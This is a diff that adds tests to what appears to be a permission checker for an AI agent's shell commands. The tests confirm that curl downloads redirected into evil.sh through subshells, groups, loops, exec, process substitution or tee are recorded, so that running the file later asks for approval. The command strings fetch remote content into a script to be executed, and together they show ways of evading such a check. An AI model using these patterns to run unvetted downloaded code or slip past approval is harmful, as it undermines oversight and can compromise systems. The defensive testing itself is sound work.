@@ -300,3 +300,36 @@ describe("downloader words that may hold options", () => {
     expect(downloadsUnplaced(command)).toBe(false);
   });
 });
+
+// A download's output sent on by more than a pipe (a substitution, a subshell, a group, a loop, a
+// process substitution, exec) was recorded nowhere, so a later bash evil.sh ran unasked: on such a
+// line every command's redirections (and tee's files) count as the download's.
+describe("download output sent on by the line's structure", () => {
+  it.each([
+    ['echo "$(curl -s https://x.test/a)" > evil.sh', ["evil.sh"]],
+    ["cat <(curl -s https://x.test/a) > evil.sh", ["evil.sh"]],
+    ["(curl https://x.test/a) > evil.sh", ["evil.sh"]],
+    ["{ curl https://x.test/a; } > evil.sh", ["evil.sh"]],
+    ["for u in a; do curl -s https://x.test/a; done > evil.sh", ["evil.sh"]],
+    ["if true; then curl -s https://x.test/a; fi > evil.sh", ["evil.sh"]],
+    ["exec > evil.sh; curl -s https://x.test/a", ["evil.sh"]],
+    ["exec 3>evil.sh; curl -o /dev/fd/3 https://x.test/a", ["evil.sh", "/dev/fd/3"]],
+    ["curl https://x.test/a > >(cat > evil.sh)", ["evil.sh"]],
+    ["curl https://x.test/a | (cat > evil.sh)", ["evil.sh"]],
+    ["curl https://x.test/a | (tee evil.sh)", ["evil.sh"]],
+  ])("%s → %j", (command, expected) => {
+    expect(detectDownloads(command)).toEqual(expected);
+  });
+
+  it("leaves a plain line's other commands alone", () => {
+    expect(detectDownloads("curl -o a https://x.test/a; echo done > log")).toEqual(["a"]);
+    expect(detectDownloads("echo $(date) > log")).toEqual([]);
+  });
+
+  it("records it, so running it later asks", async () => {
+    const ws = await mkdtemp(path.join(tmpdir(), "sent-on-downloads-"));
+    const facts = { downloadedFiles: new Set<string>() };
+    await recordDownloads("{ curl https://x.test/a; } > evil.sh", ws, facts);
+    expect(downloadExecution("bash evil.sh", facts.downloadedFiles)).toBeDefined();
+  });
+});
